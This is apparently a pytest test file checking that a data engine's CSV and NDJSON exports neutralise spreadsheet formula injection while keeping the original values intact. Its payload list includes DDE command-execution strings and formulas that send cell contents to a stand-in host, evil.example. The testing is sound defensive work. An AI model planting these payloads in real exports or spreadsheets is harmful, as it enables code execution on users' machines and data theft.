"""Exports as spreadsheets open them: nothing runs, and every value is there again."""

import csv
import json
from typing import Any

import pytest

from engine.domain.requests import Selection
from tests.stories.definitions import definition
from tests.stories.world import World

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    "+1+1",
    "+44 170 555",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''",
    'a","=1+1',
    'a"\n=1+1,"b',
    "%0A=1+1",
    ';=1+1;"',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "=\u202e1+1",
)
STARTS = tuple("=+-@\t\r\n\0＝＋－＠")


@pytest.fixture
def exported(world: World) -> tuple[list[dict[str, str]], list[dict[str, Any]]]:
    """What failed on keys and fields that are formulas, as CSV and as NDJSON."""
    lines = "".join(json.dumps({"id": each, "email": each}) + "\n" for each in PAYLOADS)
    (world.links / "orders.ndjson").write_text(lines)
    stages = [
        {"name": "as they are", "map": {"id": "id", "email": "email"}},
        {"name": "r", "check": [{"when": "true", "code": "=1+1", "message": "=1+1"}]},
    ]
    world.link("orders", definition(stages=stages))
    event = world.run()
    answers = []
    for form in ("csv", "ndjson"):
        path = world.folder / f"x.{form}"
        world.engine.export(
            str(event.id), Selection(), format=form, output=str(path), mask=False
        )
        answers.append(path)
    with answers[0].open(encoding="utf-8", newline="") as file:
        table = list(csv.DictReader(file))
    return table, [json.loads(line) for line in answers[1].read_text("utf-8").splitlines()]


def test_no_cell_of_an_export_runs(
    exported: tuple[list[dict[str, str]], list[dict[str, Any]]],
) -> None:
    """RELIABILITY (e) 3."""
    table, _ = exported

    assert len(table) == len(PAYLOADS)
    cells = [cell for row in table for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(STARTS)] == []


def test_what_was_exported_is_there_again_without_its_guard(
    exported: tuple[list[dict[str, str]], list[dict[str, Any]]],
) -> None:
    table, lines = exported

    assert [row["key"].removeprefix("'") for row in table] == [
        each["key"] for each in lines
    ]
    assert {json.loads(row["before"])["id"] for row in table} == set(PAYLOADS)
    assert {each["before"]["id"] for each in lines} == set(PAYLOADS)
